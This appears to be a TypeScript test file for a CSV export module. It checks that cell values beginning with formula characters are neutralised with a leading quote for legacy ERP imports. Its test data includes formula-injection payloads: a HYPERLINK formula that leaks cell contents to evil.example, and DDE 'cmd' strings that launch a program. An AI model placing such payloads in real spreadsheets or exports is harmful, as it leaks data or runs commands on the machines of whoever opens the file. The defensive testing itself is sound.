import { parse } from 'csv-parse/sync';
import { toCsv } from './csv-file';

const cellOf = (value: unknown): string => {
  const [record] = parse(toCsv([{ externalId: 'ferry-1', payload: { NAME: value } }]), { columns: true }) as Record<string, string>[];
  return record!['NAME']!;
};

describe('CSV files for legacy ERPs', () => {
  it.each([
    [
      'a spreadsheet formula',
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
    ],
    ['a leading plus', '+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['a leading minus that is not a number', '-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['a leading at sign', '@SUM(1+9)*cmd|" /C calc"!A0', `'@SUM(1+9)*cmd|" /C calc"!A0`],
    ['a leading tab', '\t=1+1', `'\t=1+1`],
    ['a leading carriage return', '\r=1+1', `'\r=1+1`],
    ['a full-width equals sign', '\uFF1D1+1', `'\uFF1D1+1`],
  ])('neutralises %s by prefixing a quote', (_case, value, expected) => {
    expect(cellOf(value)).toBe(expected);
  });

  it.each([
    ['a negative decimal amount', '-1250.00', '-1250.00'],
    ['a negative number', -42.5, '-42.5'],
    ['a positive amount', '1250.00', '1250.00'],
    ['plain text', 'Globex GmbH', 'Globex GmbH'],
    ['text with an equals sign inside', 'a=b', 'a=b'],
    ['an empty value', null, ''],
  ])('keeps %s as it is', (_case, value, expected) => {
    expect(cellOf(value)).toBe(expected);
  });
});

describe('CSV formula escaping switched off for a partner whose importer cannot take it', () => {
  it('writes the value as it is', () => {
    const csv = toCsv([{ externalId: 'ferry-1', payload: { NAME: '=1+1' } }], { escapeFormulas: false });
    expect((parse(csv, { columns: true }) as Record<string, string>[])[0]!['NAME']).toBe('=1+1');
  });
});
